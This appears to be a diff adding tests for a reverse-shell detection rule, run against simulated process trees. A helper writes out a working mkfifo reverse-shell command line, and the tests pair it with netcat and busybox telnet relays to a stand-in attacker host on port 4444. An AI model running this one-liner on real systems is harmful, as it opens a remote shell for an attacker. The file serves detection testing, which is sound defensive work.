@@ -17,6 +17,11 @@ HIGH = [("nsp.reverse-shell", "HIGH")]
 MEDIUM = [("nsp.reverse-shell", "MEDIUM")]
 
 
+def fifo(relay: str) -> list[str]:
+    """A shell's command line that joins a shell's pipes to the network."""
+    return ["sh", "-c", f"mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | {relay} >/tmp/f"]
+
+
 def cron_job(node: Node) -> int:
     """A process that no service is above."""
     return node.spawn(node.service("/usr/sbin/cron", serving=False), "/opt/backup")
@@ -200,6 +205,27 @@ def test_a_relay_between_a_shells_pipes_and_the_network_is_caught_by_its_pipes()
     outcome = run(node)
     assert rules(outcome) == HIGH
     assert cut(outcome) == [subject(node, relay)]
+
+
+@pytest.mark.parametrize("tool", [["nc", EVIL, "4444"], ["busybox", "telnet", EVIL, "4444"]])
+def test_a_relay_that_such_a_command_line_started_is_caught_without_the_shell_beside_it(
+    tool: list[str],
+) -> None:
+    node = Node()
+    outer = node.spawn(cron_job(node), "/usr/bin/dash", fifo(" ".join(tool)))
+    node.batch()  # the shell's exec was in another batch, and it is no ancestor of the relay
+    program = "/usr/bin/busybox" if tool[0] == "busybox" else "/usr/bin/nc.openbsd"
+    relay = node.spawn(outer, program, tool, stdio=["PIPE", "PIPE", "FILE"])
+    node.connect(relay, EVIL, 4444)
+    assert rules(run(node)) == HIGH
+
+
+def test_an_interactive_shell_on_a_pipe_is_told_below_such_a_command_line_too() -> None:
+    node = Node()
+    outer = node.spawn(cron_job(node), "/usr/bin/dash", fifo("nc 203.0.113.9 4444"))
+    node.batch()
+    node.spawn(outer, "/usr/bin/dash", ["sh", "-i"], stdio=["PIPE", "PIPE", "PIPE"])
+    assert rules(run(node)) == MEDIUM
 
 
 def test_sending_a_commands_output_by_netcat_is_no_reverse_shell() -> None:
